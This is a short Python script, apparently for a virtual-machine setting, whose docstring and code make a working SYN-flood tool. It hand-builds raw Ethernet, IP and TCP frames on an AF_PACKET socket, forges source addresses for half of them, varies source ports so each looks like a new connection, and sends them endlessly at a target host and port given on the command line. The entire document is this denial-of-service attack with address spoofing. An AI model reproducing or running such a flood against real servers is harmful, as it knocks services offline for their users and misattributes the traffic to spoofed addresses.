"""Floods a server with raw SYN segments: its arguments are the server and a port.

Half of them have the guest's own address, the others forged ones. Each has another
port, so that each would be a new connection. Runs until it is killed.
"""

import random
import socket
import struct
import sys

TARGET, PORT = sys.argv[1], int(sys.argv[2])
OWN = "169.254.0.21"
LINK = bytes.fromhex("02fc00000006" "02fc00000005" "0800")


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, port):
    sequence = random.getrandbits(32)
    addresses = socket.inet_aton(source) + socket.inet_aton(TARGET)

    def segment(check):
        return struct.pack("!HHIIBBHHH", port, PORT, sequence, 0, 0x50, 2, 1024, check, 0)

    def header(check):
        return struct.pack("!BBHHHBBH", 0x45, 0, 40, 1, 0, 64, 6, check) + addresses

    tcp = segment(checksum(addresses + struct.pack("!HH", 6, 20) + segment(0)))
    return LINK + header(checksum(header(0))) + tcp


def main():
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind(("eth0", 0))
    frames = [syn(OWN, 1024 + 13 * n) for n in range(4000)]
    frames += [syn(f"8.{n % 250}.{n % 199}.{1 + n % 250}", 1024 + 13 * n) for n in range(4000)]
    random.shuffle(frames)
    while True:
        for frame in frames:
            try:
                link.send(frame)
            except OSError:  # the queue of the interface is full
                pass


main()
